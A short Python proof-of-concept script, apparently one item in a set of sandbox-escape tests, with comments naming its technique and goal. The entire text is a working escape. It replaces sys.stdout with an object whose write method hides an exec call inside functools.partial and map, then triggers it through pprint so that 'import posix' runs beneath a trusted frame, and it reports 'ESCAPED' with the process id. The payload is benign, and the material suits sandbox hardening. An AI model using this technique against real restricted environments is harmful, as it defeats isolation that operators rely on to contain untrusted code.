# technique: pprint writes to our sys.stdout, below its own frame
# goal: import
# source: own analysis: the default builtins of exec, below a trusted frame
import functools
import pprint
import sys
real, g = sys.stdout, {}


class Stream:
    write = staticmethod(functools.partial(dict.fromkeys, map(exec, ['import posix; pid = posix.getpid()'], [g])))


sys.stdout = Stream()
pprint.pprint('x')
sys.stdout = real
print('ESCAPED pid=%d' % g['pid'])
